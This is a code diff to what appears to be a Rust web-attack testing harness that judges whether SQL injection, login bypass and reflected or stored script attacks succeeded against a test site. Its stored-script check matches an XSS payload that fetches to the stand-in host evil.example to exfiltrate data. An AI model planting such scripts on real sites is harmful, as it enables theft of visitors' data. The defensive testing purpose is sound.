@@ -1,6 +1,6 @@
 //! The attacks, and how to tell that one succeeded.
 
-use std::net::SocketAddr;
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 
 use super::http::{Reply, Shot, encode};
 
@@ -31,6 +31,9 @@ enum Proof {
     /// Other people's addresses.
     Customers,
 }
+
+/// Who looks at the page that an attacker left a script on.
+const NEXT_VISITOR: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 91));
 
 /// How many payloads each attack has.
 pub(super) const VARIANTS: usize = 4;
@@ -117,6 +120,8 @@ impl Attack {
 
     /// Whether the reply shows that the attack succeeded, and what it brought. `at`: where it was sent, to look further there;
     /// `as_sent`: with the fields that name the client.
+    ///
+    /// A refused attacker asks for nothing more: its ban may close that very connection.
     pub(super) async fn harm(
         &self,
         as_sent: &Shot,
@@ -130,8 +135,12 @@ impl Attack {
                 n => Some(format!("leaked {n} password hashes")),
             },
             Proof::LoggedIn => {
-                let cookie = reply.field("Set-Cookie").split(';').next().unwrap_or_default();
-                let account = followed(as_sent, "/account").with("Cookie", cookie).send(at).await?;
+                let Some(cookie) = reply.field("Set-Cookie").split(';').next().filter(|c| !c.is_empty())
+                else {
+                    return Ok(None);
+                };
+                let account = Shot { fields: as_sent.fields.clone(), ..Shot::get("/account") };
+                let account = account.with("Cookie", cookie).send(at).await?;
                 let text = account.text();
                 let name = text.split("<h1>Hello, ").nth(1).and_then(|rest| rest.split("</h1>").next());
                 name.map(|name| format!("logged in as {name} without a password"))
@@ -140,7 +149,7 @@ impl Attack {
                 text.contains("<script>fetch(").then(|| "the page runs the attacker's script".to_owned())
             }
             Proof::Stored => {
-                let page = followed(as_sent, "/product?id=5").send(at).await?;
+                let page = Shot::get("/product?id=5").from(NEXT_VISITOR).send(at).await?;
                 let marker = as_sent.form.as_deref().and_then(|form| form.split("evil.example%2F").nth(1));
                 let marker = marker.and_then(|rest| rest.split('%').next()).unwrap_or_default();
                 let script = format!("onerror=\"fetch('//evil.example/{marker}?");
@@ -155,12 +164,6 @@ impl Attack {
             },
         })
     }
-}
-
-/// Another page for the same client.
-fn followed(as_sent: &Shot, target: &str) -> Shot {
-    let fields = as_sent.fields.clone();
-    Shot { fields, ..Shot::get(target) }
 }
 
 /// Counts the SHA-256 values in a page.
